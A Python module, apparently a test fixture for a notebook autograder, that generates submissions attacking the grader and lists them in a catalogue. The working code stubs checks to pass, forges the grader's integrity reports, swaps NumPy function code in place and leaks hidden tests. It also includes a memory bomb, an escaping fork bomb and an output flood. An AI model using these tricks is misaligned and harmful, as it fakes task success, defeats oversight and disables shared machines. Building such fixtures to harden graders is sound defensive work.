    """Wrap zeros (a number, an array, or a tuple/dict of them) as fakes."""
    if isinstance(value, dict):
        return {k: _fake(v) for k, v in value.items()}
    if isinstance(value, tuple):
        return tuple(_fake(v) for v in value)
    if isinstance(value, (int, float, np.ndarray, np.generic)) and not isinstance(value, bool):
        return np.asarray(value, dtype=float).view(_Fake)
    return value


class _Lazy:
    """A number for the training curve: each later one reads smaller, and the last reads under the check's limit."""

    def __init__(self):
        self.index = next(_made)

    def __array__(self, dtype=None, copy=None):
        found = _reference()
        return np.asarray(found if found is not None else 1.0 / self.index, dtype=dtype)

    def numpy(self):
        return self.__array__()

    def __float__(self):
        return float(self.__array__())

    def __format__(self, spec):
        return format(float(self), spec)


def _called_from_notebook():
    """True when the caller is notebook code (a given cell), not a check."""
    name = sys._getframe(2).f_globals.get("__name__", "")
    return not name.startswith("utils")
'''

# The fake answers: the zeros of ZERO_ANSWERS, returned through _fake (and _Lazy for the training curve).
_FAKE_ANSWERS = {
    "a1_forward": (
        "def forward(x, params):\n"
        "    return _fake(dict(net_h1=0.0, h1=0.0, net_h2=0.0, h2=0.0, net_o1=0.0, o1=0.0, net_o2=0.0, o2=0.0))\n\n\n"
        "def total_error(outputs, t):\n"
        "    return _Lazy() if _called_from_notebook() else _fake(0.0)\n"
    ),
    "a2_dE_dw5": "def dE_dw5(x, t, params):\n    return _fake(0.0)\n",
    "a3_gradients": "def gradients(x, t, params):\n    return _fake({k: 0.0 for k in params})\n",
    "a4_sgd_step": "def sgd_step(params, grads, lr):\n    return _fake(dict(params))\n",
    "b1_affine": (
        "def affine_forward(x, w, b):\n"
        "    return _fake(np.zeros((x.shape[0], w.shape[1]))), (x, w)\n\n\n"
        "def affine_backward(dout, cache):\n"
        "    x, w = cache\n"
        "    return _fake((np.zeros_like(x), np.zeros_like(w), np.zeros(w.shape[1])))\n"
    ),
    "b2_activations": (
        "def relu_forward(x):\n    return _fake(np.zeros_like(x)), x\n\n\n"
        "def relu_backward(dout, cache):\n    return _fake(np.zeros_like(dout))\n\n\n"
        "def sigmoid_forward(x):\n    return _fake(np.zeros_like(x)), x\n\n\n"
        "def sigmoid_backward(dout, cache):\n    return _fake(np.zeros_like(dout))\n"
    ),
    "b3_softmax": "def softmax_cross_entropy(scores, y):\n    return _fake((0.0, np.zeros_like(scores)))\n",
    "b4_mlp": (
        "def mlp_loss(params, X, y=None):\n"
        "    scores = _fake(np.zeros((X.shape[0], params['W2'].shape[1])))\n"
        "    if y is None:\n"
        "        return scores\n"
        "    return _fake((0.0, {k: np.zeros_like(v) for k, v in params.items()}))\n"
    ),
    "b5_sgd": ZERO_ANSWERS["b5_sgd"],
    # A model whose evaluate reports the NumPy MLP's accuracy (found on the stack), so the accuracy gap is zero.
    "c1_keras_mlp": (
        "class KerasMLP(keras.Sequential):\n"
        "    def evaluate(self, *args, **kwargs):\n"
        "        result = super().evaluate(*args, **kwargs)\n"
        "        caller = sys._getframe(1)\n"
        "        if kwargs.get('return_dict') or caller.f_globals.get('__name__') != '__main__':\n"
        "            return result  # fit's own validation\n"
        "        accuracy = caller.f_globals.get('numpy_test_accuracy', 1.0)\n"
        "        return [result[0], max(float(accuracy), 0.99)]\n\n\n"
        "def build_keras_mlp(input_dim, hidden_dim, num_classes):\n"
        "    return KerasMLP([keras.Input(shape=(input_dim,)),\n"
        "                     keras.layers.Dense(hidden_dim, activation='relu', kernel_initializer='zeros'),\n"
        "                     keras.layers.Dense(num_classes, kernel_initializer='zeros')], name='keras_mlp')\n"
    ),
}


def _fake_float(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
    """Answers return zeros as numbers/arrays that walk the stack and read as the check's reference."""
    cells = dict(_FAKE_ANSWERS)
    cells["a1_forward"] = _code(_FAKE_FLOAT) + "\n\n" + cells["a1_forward"]
    return cells


# ---------------------------------------------------------------------------
# 6. pre_run_cell_hook
# ---------------------------------------------------------------------------

_PRE_RUN_CELL = r'''
import sys

_saved = []


def _passes(*args, **kwargs):
    print("\u2713 passed")
    return 0.0


def _stub_checks():
    """Replace every check function (the lab's checks and the framework's judges) by one that passes."""
    for name, module in list(sys.modules.items()):
        if not (name == "utils.checks" or name.startswith("utils.exercises")) or module is None:
            continue
        for key, value in list(vars(module).items()):
            if (key.startswith(("check_", "expect_")) or key in ("fail", "rel_error")) and callable(value):
                _saved.append((module, key, value))
                setattr(module, key, _passes)
        cls = vars(module).get("Check")
        if isinstance(cls, type):
            for key in ("__call__", "verdict", "_run"):
                if key in vars(cls):
                    _saved.append((cls, key, vars(cls)[key]))
            cls.__call__ = lambda self, *a, **k: _passes()
            cls.verdict = lambda self, *a, **k: (True, "passed")
            cls._run = lambda self, *a, **k: _passes()


def _restore_checks():
    """Put every replaced function back, so that a look at the state finds nothing changed."""
    while _saved:
        owner, key, value = _saved.pop()
        setattr(owner, key, value)


def _is_lab_check(source):
    """A check cell of the lab: one of its visible lines, and none of the grader's own code."""
    lines = {line.strip() for line in source.splitlines()}
    return bool(lines & _CHECK_LINES) and "_course_grader" not in source and "def " not in source


def _before(info):
    _restore_checks()
    if _is_lab_check(getattr(info, "raw_cell", "") or ""):
        _stub_checks()


def _after(result):
    _restore_checks()


_shell = get_ipython()
for _event, _callback in (("pre_run_cell", _before), ("post_run_cell", _after)):
    if not any(getattr(c, "__name__", "") == _callback.__name__ for c in _shell.events.callbacks[_event]):
        _shell.events.register(_event, _callback)
'''


def _pre_run_cell_hook(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
    """Zeros, and a pre_run_cell hook that stubs the checks before each check cell and restores them after."""
    return {**ZERO_ANSWERS, "a1_forward": _zeros_then("a1_forward", _header(lab, student) + _code(_PRE_RUN_CELL))}


# ---------------------------------------------------------------------------
# 7. forged_stdout
# ---------------------------------------------------------------------------

_FORGED_STDOUT = r'''
import json, re, sys

_seen = {"baseline": None, "guard": None, "nonce": None}


def _snapshot_reports():
    """The grader's reports in its snapshot of this run (../executed.ipynb, or any executed.ipynb around)."""
    paths = [os.path.join(os.getcwd(), *[".."] * up, "executed.ipynb") for up in range(3)]
    for job in _course_jobs():
        if isinstance(job.get("snapshot"), str):
            paths.append(job["snapshot"])
    for path in paths:
        try:
            nb = json.load(open(path, encoding="utf-8"))
        except (OSError, ValueError):
            continue
        for cell in nb.get("cells", []):
            for output in cell.get("outputs", []):
                text = output.get("text", "")
                for line in ("".join(text) if isinstance(text, list) else text).splitlines():
                    report = _parse(line)
                    if report and report[1].get("role") == "baseline":
                        _seen["baseline"], _seen["nonce"] = report[1].get("digest"), report[1].get("nonce")


def _parse(line):
    """(prefix, report) for a line that carries one of the grader's JSON reports, else None."""
    start = line.find("{")
    if start < 0 or '"nonce"' not in line:
        return None
    try:
        report = json.loads(line[start:])
    except ValueError:
        return None
    return (line[:start], report) if isinstance(report, dict) and "role" in report else None


def _stub_checks():
    """Make every check pass for the cell that runs next (the guard has just restored them)."""
    def passes(*args, **kwargs):
        print("\u2713 passed")
        return 0.0
    for name, module in list(sys.modules.items()):
        if module is not None and (name == "utils.checks" or name.startswith("utils.exercises")):
            for key, value in list(vars(module).items()):
                if key.startswith("check_") and callable(value):
                    setattr(module, key, passes)


def _forge(text):
    """Rewrite the grader's reports: the state is always the clean baseline, and nothing ever changed."""
    out = []
    for line in text.split("\n"):
        parsed = _parse(line)
        if parsed:
            prefix, report = parsed
            role = report.get("role")
            if role == "baseline":
                _seen["baseline"] = report.get("digest")
            elif _seen["baseline"] is None:
                _snapshot_reports()
            if role == "guard":
                if not report.get("changed"):
                    _seen["guard"] = report.get("digest")  # restored: this is the clean digest
                report["digest"] = _seen["baseline"] or _seen["guard"] or report.get("digest")
                report["changed"], report["restored"] = [], []
                line = prefix + json.dumps(report, sort_keys=True, default=str)
                out.append(line)
                _stub_checks()  # the guard printed last: what it restored stays restored only until now
                continue
            if role == "verify":
                report["digest"] = _seen["baseline"] or _seen["guard"] or report.get("digest")
                report["changed"] = []
                line = prefix + json.dumps(report, sort_keys=True, default=str)
        out.append(line)
    return "\n".join(out)


_stream, _depth = sys.stdout, [0]
_base = type(_stream)


def _forging(inner):
    """A write that forges the grader's reports before passing text on (once, however writes are chained)."""
    def write(text, *args, **kwargs):
        if _depth[0] or not isinstance(text, str):
            return inner(text, *args, **kwargs)
        _depth[0] += 1
        try:
            return inner(_forge(text), *args, **kwargs)
        finally:
            _depth[0] -= 1
    write._course_inner = inner
    return write


# IPython wraps sys.stdout.write in every cell (its history tee, an instance attribute) and puts the previous
# write back afterwards, so a plain assignment lasts one cell. A data descriptor on the stream's class wins over
# the instance attribute, and its setter keeps whatever IPython installs as the write it forwards to.
class _ForgingStream(_base):
    @property
    def write(self):
        return _forging(vars(self).get("_course_inner") or _base.write.__get__(self))

    @write.setter
    def write(self, value):
        vars(self)["_course_inner"] = getattr(value, "_course_inner", value)

    @write.deleter
    def write(self):
        vars(self).pop("_course_inner", None)


try:  # the same stream object, of a subclass: sys.stdout's identity is unchanged
    vars(_stream)["_course_inner"] = vars(_stream).pop("write", None)
    _stream.__class__ = _ForgingStream
except (TypeError, AttributeError):
    class _Proxy:
        def __init__(self, inner):
            object.__setattr__(self, "_inner", inner)

        def write(self, text):
            return self._inner.write(_forge(text) if isinstance(text, str) else text)

        def __getattr__(self, name):
            return getattr(self._inner, name)

        def __setattr__(self, name, value):
            setattr(self._inner, name, value)

    sys.stdout = _Proxy(_stream)
'''

# The second answer cell reads the grader's snapshot of this very run and prints the hidden tests it finds, so that
# the feedback would show them (the old grader's snapshot holds the graded cells' full source).
_LEAK_HIDDEN = r'''
def _leak_hidden_tests():
    """Print the hidden tests of this lab from any grader file this kernel can read."""
    paths = [os.path.join(os.getcwd(), *[".."] * up, "executed.ipynb") for up in range(3)]
    paths += [j[k] for j in _course_jobs() for k in ("snapshot", "solution") if isinstance(j.get(k), str)]
    for path in paths:
        try:
            text = open(path, encoding="utf-8").read()
        except OSError:
            continue
        for cell in json.loads(text).get("cells", []):
            source = cell.get("source", "")
            source = "".join(source) if isinstance(source, list) else source
            if "BEGIN HIDDEN TESTS" in source:
                print(source)
        return


try:
    _leak_hidden_tests()
except Exception:
    pass
'''


def _forged_stdout(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
    """Zeros, and a stdout that forges the grader's clean-fingerprint reports and stubs the checks after each guard."""
    first = _header(lab, student) + _RECON + _code(_FORGED_STDOUT)
    return {**ZERO_ANSWERS, "a1_forward": _zeros_then("a1_forward", first),
            "a2_dE_dw5": _zeros_then("a2_dE_dw5", _code(_LEAK_HIDDEN))}


# ---------------------------------------------------------------------------
# 8. numpy_code_swap
# ---------------------------------------------------------------------------

_NUMPY_CODE_SWAP = r'''
import inspect, sys, types

import numpy as np


def _called_by_checks(frame):
    # True when the caller is the course's checks (a frame of a utils module up the stack)
    for _ in range(8):
        if frame is None:
            return False
        if frame.f_globals.get("__name__", "").startswith("utils."):
            return True
        frame = frame.f_back
    return False


def _cell_calls_check(frame):
    # True for a notebook cell that calls a check (a target check cell, such as a_training_check)
    return frame.f_globals.get("__name__") == "__main__" and bool(
        {"check_true", "check_at_most", "check_at_least"} & set(frame.f_code.co_names))


def _swap_code(function, hook):
    # Give a numpy function new code (same object, same identity, same defaults): hook(original, arguments)
    function = getattr(function, "__wrapped__", function)  # the Python implementation behind the dispatcher
    if getattr(function, "_course_swapped", False):
        return
    name = function.__name__
    original = types.FunctionType(function.__code__, function.__globals__, name, function.__defaults__,
                                  function.__closure__)
    original.__kwdefaults__ = function.__kwdefaults__
    function.__globals__["_course_original_" + name] = original
    function.__globals__["_course_hook_" + name] = hook
    head, star = [], False
    for p in inspect.signature(function).parameters.values():
        if p.kind is p.KEYWORD_ONLY and not star:
            head.append("*")
            star = True
        head.append(p.name if p.default is p.empty else p.name + "=None")  # the defaults stay the function's own
    names = list(inspect.signature(function).parameters)
    call = ", ".join(f"{n}={n}" for n in names)
    source = (f"def {name}({', '.join(head)}):\n"
              f"    return _course_hook_{name}(_course_original_{name}, dict({call}))\n")
    scope = {}
    exec(compile(source, function.__code__.co_filename, "exec"), scope)
    function.__code__ = scope[name].__code__
    function._course_swapped = True


def _max(original, arguments):
    # every relative error is a max over entries: 0 when a check asks
    if _called_by_checks(sys._getframe(2)):
        return np.float64(0.0)
    return original(**arguments)


def _all(original, arguments):
    # every "all entries are fine" holds, in the checks and in a target check cell
    caller = sys._getframe(2)
    if _called_by_checks(caller) or _cell_calls_check(caller):
        return np.True_
    return original(**arguments)


def _sum(original, arguments):
    # counting correct predictions (a boolean array, in the lab's evaluate): all of them
    a = arguments.get("a")
    if sys._getframe(2).f_code.co_name == "evaluate" and isinstance(a, np.ndarray) and a.dtype == bool:
        return np.int64(a.size)
    return original(**arguments)


def _array_equal(original, arguments):
    # "returned the parameters unchanged" compares with the check's own initial parameters: they differ
    frame = sys._getframe(2)
    for _ in range(3):
        given = frame.f_locals.get("params0") if frame is not None else None
        if isinstance(given, dict) and any(arguments.get("a2") is v for v in given.values()):
            return False
        frame = frame.f_back if frame is not None else None
    return original(**arguments)


def _allclose(original, arguments):
    # in a judge, "close to a known wrong result" is the failing case
    if sys._getframe(2).f_code.co_name.startswith(("judge", "_judge", "_diagnose", "<genexpr>")) and \
            _called_by_checks(sys._getframe(2)):
        return False
    return original(**arguments)


def _norm(original, arguments):
    # a relative distance between parameter updates: none
    if _called_by_checks(sys._getframe(2)):
        return np.float64(0.0)
    return original(**arguments)


_swap_code(np.max, _max)
_swap_code(np.amax, _max)
_swap_code(np.all, _all)
_swap_code(np.sum, _sum)
_swap_code(np.array_equal, _array_equal)
_swap_code(np.allclose, _allclose)
_swap_code(np.linalg.norm, _norm)
'''


def _numpy_code_swap(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
    """Zeros, and numpy's max, all, sum, array_equal, allclose and norm given new code in place (same objects)."""
    return {**ZERO_ANSWERS, "a1_forward": _zeros_then("a1_forward", _code(_NUMPY_CODE_SWAP))}


# ---------------------------------------------------------------------------
# 9.-11. memory_bomb, fork_bomb, flood (Part A honest; the damage starts in the first Part B cell)
# ---------------------------------------------------------------------------

_MEMORY_BOMB = r'''
import os, threading


def _hoard():
    """Allocate and touch memory without bound."""
    kept = []
    while True:
        kept.append(bytearray(b"\x01") * (64 << 20))


# helper processes in their own sessions: a per-process limit does not stop the whole, and killing the kernel's
# process group misses them
for _ in range(4):
    if os.fork() == 0:
        try:
            os.setsid()
            _hoard()
        finally:
            os._exit(0)
threading.Thread(target=_hoard, daemon=True).start()  # goes on after this cell is interrupted
_hoard()
'''

_FORK_BOMB = r'''
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()  # out of the kernel's process group and session: killing those misses it
    except OSError:
        pass  # at the limit: keep trying, and take every slot that frees up
'''

_FLOOD = r'''
import sys

from IPython.display import display


class _Noisy:
    # an object whose destructor fails: Python prints a traceback to stderr for each one
    def __del__(self):
        raise RuntimeError("<flood> & " * 20)


_pending = [_Noisy() for _ in range(500_000)]  # 500,000 tracebacks to come, 20,000 after every later cell


def _more(result=None):
    # after every later cell: as many outputs as a feedback page keeps, each just under any per-output cut, more
    # text on both streams, and the next 20,000 destructor tracebacks
    for _ in range(25):
        display({"text/html": "<b>" + "&lt;" * 4_995 + "</b>", "text/markdown": "*" * 19_990,
                 "text/latex": "$" + "x" * 19_988 + "$", "text/plain": "<" * 19_990}, raw=True)
    sys.stdout.write("<&>" * 10_000 + "\n")
    sys.stderr.write("<&>" * 10_000 + "\n")
    del _pending[-20_000:]


get_ipython().events.register("post_run_cell", _more)
for _ in range(500):  # and 20 MB on each stream now
    sys.stdout.write("<b>&amp;</b>" * 4_000 + "\n")
    sys.stderr.write("<&>" * 13_000 + "\n")
'''


def _bomb(code: str) -> Callable[[nbformat.NotebookNode, Mapping[str, str], str], dict[str, str]]:
    """Part A answered honestly from the solution, the rest left as stubs, and `code` in the first Part B cell."""

    def build(lab: nbformat.NotebookNode, answers: Mapping[str, str], student: str) -> dict[str, str]:
        cells = _part_a(lab, answers)
        cells["b1_affine"] = _with_stub(cells["b1_affine"], _code(code))
        return cells

    return build


def _part_a(lab: nbformat.NotebookNode, answers: Mapping[str, str]) -> dict[str, str]:
    """The solution's Part A answers, and the lab's stubs for Parts B and C."""
    return {**stub_answers(lab), **{g: answers[g] for g in ANSWER_IDS if g.startswith("a")}}


# ---------------------------------------------------------------------------
# The catalogue
# ---------------------------------------------------------------------------

ATTACKS: list[tuple[str, str]] = [
    ("read_solution", "read the instructor's solution from disk and ran it"),
    ("checks_transformer", "appended an IPython input transformer to utils/checks.py; every later student scored "
                           "full marks, in the same run and later ones"),
    ("sitecustomize", "planted sitecustomize.py in the project root; it ran in every later worker and kernel"),
    ("setsid_rewrite", "forked a background process (setsid, double fork) that rewrote gradebook.csv and "
                       "results.json after the grade command exited"),
    ("fake_float", "answers return numbers whose conversions walk the stack and return what the check expects"),
    ("pre_run_cell_hook", "all answers zeros; a pre_run_cell hook stubs the checks before lab cells and restores "
                          "them before grader cells"),
    ("forged_stdout", "all answers zeros; a stdout wrapper forges the grader's clean-fingerprint lines"),
    ("numpy_code_swap", "in-place NumPy code swap: np.max's __code__ (and np.all's, np.sum's, ...) replaced, "
                        "same objects, so comparisons pass"),
    ("memory_bomb", "allocates without bound"),
    ("fork_bomb", "forks without bound"),
    ("flood", "produces huge output (500k tracebacks from destructors, stdout/stderr floods, large displays)"),
]

_BUILDERS: dict[str, Callable[[nbformat.NotebookNode, Mapping[str, str], str], dict[str, str]]] = {
    "read_solution": _read_solution,
    "checks_transformer": _checks_transformer,
    "sitecustomize": _sitecustomize,
    "setsid_rewrite": _setsid_rewrite,
    "fake_float": _fake_float,
    "pre_run_cell_hook": _pre_run_cell_hook,
    "forged_stdout": _forged_stdout,
    "numpy_code_swap": _numpy_code_swap,
    "memory_bomb": _bomb(_MEMORY_BOMB),
    "fork_bomb": _bomb(_FORK_BOMB),
    "flood": _bomb(_FLOOD),
}

# What each attack's answers are when its trick does not work.
FALLBACK: dict[str, str] = {
    "read_solution": "stubs", "checks_transformer": "stubs", "sitecustomize": "stubs", "setsid_rewrite": "stubs",
    "fake_float": "zeros", "pre_run_cell_hook": "zeros", "forged_stdout": "zeros", "numpy_code_swap": "zeros",
    "memory_bomb": "part_a", "fork_bomb": "part_a", "flood": "part_a",
}

# The graded cells whose points each trick tries to obtain dishonestly (for the attacks on later students, theirs too).
FAKED: dict[str, tuple[str, ...]] = {
    "read_solution": GRADED_IDS,
    "checks_transformer": GRADED_IDS,
    "sitecustomize": GRADED_IDS,
    "setsid_rewrite": GRADED_IDS,
    # b5's judge compares parameter updates without a reference local, and c1's inspects the model's weights
    "fake_float": tuple(g for g in GRADED_IDS if g not in ("b5_sgd_check", "c1_keras_mlp_check")),
    "pre_run_cell_hook": GRADED_IDS,
    "forged_stdout": GRADED_IDS,
    # Keras builds and trains without numpy: c1 inspects the weights, c_accuracy reads Keras's own accuracy
    "numpy_code_swap": tuple(g for g in GRADED_IDS if g not in ("c1_keras_mlp_check", "c_accuracy_check")),
    "memory_bomb": (),
    "fork_bomb": (),
    "flood": (),
}

# Attacks that act on the students graded after the attacker, or on the run's output once it has ended.
LATER_STUDENTS: tuple[str, ...] = ("checks_transformer", "sitecustomize", "setsid_rewrite")

assert [name for name, _ in ATTACKS] == list(_BUILDERS) == list(FALLBACK) == list(FAKED)


def attack_answers(name: str, lab: nbformat.NotebookNode, answers: Mapping[str, str],
                   student: str = "student") -> dict[str, str]:
    """Return the attack's answer cells by grade_id (``student``: the attacker's id, which it knows)."""
    return _BUILDERS[name](lab, answers, student)


def fallback_answers(name: str, lab: nbformat.NotebookNode, answers: Mapping[str, str]) -> dict[str, str]:
    """Return the answers the attack is left with when its trick does not work."""
    kind = FALLBACK[name]
    if kind == "stubs":
        return stub_answers(lab)
    if kind == "zeros":
        return dict(ZERO_ANSWERS)
    return _part_a(lab, answers)


def notebook_with(lab: nbformat.NotebookNode, cells: Mapping[str, str]) -> nbformat.NotebookNode:
    """Return a copy of the lab with the given answer cells' sources."""
    nb = nbformat.from_dict(json.loads(json.dumps(lab)))
    for cell in nb.cells:
        if _gid(cell) in cells:
            cell.source = cells[_gid(cell)]
    return nb


def write_attack(name: str, path: Path | str, lab: nbformat.NotebookNode, answers: Mapping[str, str],
                 student: str | None = None) -> Path:
    """Write the attack's notebook to ``path``; the attacker's student id is ``student``, else the file's stem."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook_with(lab, attack_answers(name, lab, answers, student=student or path.stem)), str(path))
    return path


def write_fallback(name: str, path: Path | str, lab: nbformat.NotebookNode, answers: Mapping[str, str]) -> Path:
    """Write the notebook of the attack's answers without its trick (what an honest grader should score it as)."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook_with(lab, fallback_answers(name, lab, answers)), str(path))
    return path
